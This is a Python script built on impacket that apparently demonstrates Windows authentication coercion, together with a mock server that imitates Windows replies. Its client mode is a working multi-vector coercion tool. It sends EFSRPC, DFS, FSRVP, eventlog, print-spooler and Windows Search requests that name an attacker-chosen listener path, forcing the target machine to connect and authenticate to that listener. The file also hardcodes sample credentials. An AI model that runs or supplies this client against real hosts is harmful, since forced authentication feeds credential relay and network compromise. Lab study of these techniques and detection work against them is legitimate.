#!/usr/bin/env python3
"""Coercion as it looks on the wire.

  coercion.py server ADDRESS LISTENER   a server that goes to LISTENER when a call names it, and says that it found nothing there
  coercion.py client ADDRESS LISTENER   sends the server at ADDRESS to LISTENER by each call, and listens there itself

Only impacket is needed. What the server answers to a call is ERROR_BAD_NETPATH, as Windows does.
"""

import socket
import struct
import sys
import threading

from impacket import smbserver
from impacket.dcerpc.v5 import dtypes, even, ndr, rprn, transport
from impacket.dcerpc.v5.rpcrt import DCERPCServer
from impacket.smbconnection import SMBConnection
from impacket.uuid import uuidtup_to_bin

EFSRPC = ('c681d488-d850-11d0-8c52-00c04fd90f7e', '1.0')
SPOOLSS = ('12345678-1234-abcd-ef00-0123456789ab', '1.0')
NETDFS = ('4fc742e0-4a10-11cf-8273-00aa004ae673', '3.0')
FSSAGENT = ('a8e0653c-2744-4389-a61d-7373df8b2292', '1.0')
EVENTLOG = ('82273fdc-e32a-18c3-3f78-827929dc23ea', '0.0')
PIPES = {'lsarpc': (EFSRPC, (4, 6)), 'spoolss': (SPOOLSS, (65,)), 'netdfs': (NETDFS, (13,)),
         'FssagentRpc': (FSSAGENT, (8,)), 'eventlog': (EVENTLOG, (9,))}
ERROR_BAD_NETPATH = 0x35
SEARCH = 'MsFteWds'


def server(address, listener):
    def answer(stub):
        if listener in stub.decode('utf-16le', 'replace'):
            try:
                socket.create_connection((listener, 445), 2, (address, 0)).close()
            except OSError:
                pass
        return struct.pack('<L', ERROR_BAD_NETPATH)

    def search(listening):
        while True:
            asking = listening.accept()[0]
            answer(asking.recv(4096))
            asking.send(struct.pack('<L', 0xC8))

    smb = smbserver.SimpleSMBServer(address, 445)
    smb.setSMB2Support(True)
    smb.setSMBChallenge('')
    for pipe, (interface, opnums) in PIPES.items():
        rpc = DCERPCServer()
        rpc.daemon = True
        rpc.addCallbacks(interface, '\\PIPE\\' + pipe, {opnum: answer for opnum in opnums})
        rpc.start()
        smb.registerNamedPipe(pipe, ('127.0.0.1', rpc.getListenPort()))
    listening = socket.create_server(('127.0.0.1', 0))
    threading.Thread(target=search, args=(listening,), daemon=True).start()
    smb.registerNamedPipe(SEARCH, listening.getsockname())
    smb.start()


class Text(ndr.NDRCALL):
    structure = (('FileName', dtypes.WSTR),)


class EncryptFile(Text):
    opnum = 4


class QueryUsers(Text):
    opnum = 6


class RemoveStdRoot(ndr.NDRCALL):
    opnum = 13
    structure = (('ServerName', dtypes.WSTR), ('RootShare', dtypes.WSTR), ('ApiFlags', dtypes.DWORD))


class IsPathSupported(ndr.NDRCALL):
    opnum = 8
    structure = (('ShareName', dtypes.WSTR),)


def bound(target, pipe):
    rpc = transport.SMBTransport(target, 445, '\\' + pipe, username='alice', password='Passw0rd')
    dce = rpc.get_dce_rpc()
    dce.connect()
    dce.bind(uuidtup_to_bin(PIPES[pipe][0]))
    return dce


def ask(dce, request):
    try:
        dce.call(request.opnum, request)
        dce.recv()
    except Exception as error:  # what the server says is of interest only on the wire
        print(type(error).__name__, error)
    dce.disconnect()


def ask_search(target, listener):
    """CPMConnectIn with little but the path in it; MS-WSP 2.2.3.2."""
    smb = SMBConnection(target, target)
    smb.login('alice', 'Passw0rd')
    tree = smb.connectTree('IPC$')
    pipe = smb.openFile(tree, SEARCH)
    smb.writeFile(tree, pipe, struct.pack('<4L', 0xC8, 0, 0, 0) + ('file:////' + listener + '/x\x00').encode('utf-16le'))
    smb.readFile(tree, pipe, bytesToRead=16)
    smb.closeFile(tree, pipe)
    smb.logoff()


def made(kind, **values):
    request = kind()
    for name, value in values.items():
        request[name] = value
    return request


def client(target, listener):
    listening = socket.create_server(('', 445))
    threading.Thread(target=lambda: [listening.accept() for _ in range(16)], daemon=True).start()
    share = '\\\\' + listener + '\\share\\x\x00'
    ask(bound(target, 'lsarpc'), made(EncryptFile, FileName=share))
    ask(bound(target, 'lsarpc'), made(QueryUsers, FileName=share))
    ask(bound(target, 'netdfs'),
        made(RemoveStdRoot, ServerName=listener + '\x00', RootShare='share\x00', ApiFlags=1))
    ask(bound(target, 'FssagentRpc'), made(IsPathSupported, ShareName=share))
    backup = made(even.ElfrOpenBELW, UNCServerName=dtypes.NULL, BackupFileName='\\??\\UNC\\' + listener + '\\share\\x',
                  MajorVersion=1, MinorVersion=1)
    ask(bound(target, 'eventlog'), backup)
    notify = made(rprn.RpcRemoteFindFirstPrinterChangeNotificationEx, hPrinter=bytes(20), fdwFlags=0x100, fdwOptions=0,
                  pszLocalMachine='\\\\' + listener + '\x00', dwPrinterLocal=0, pOptions=dtypes.NULL)
    ask(bound(target, 'spoolss'), notify)
    ask_search(target, listener)


if sys.argv[1] == 'server':
    server(*sys.argv[2:])
else:
    client(*sys.argv[2:])
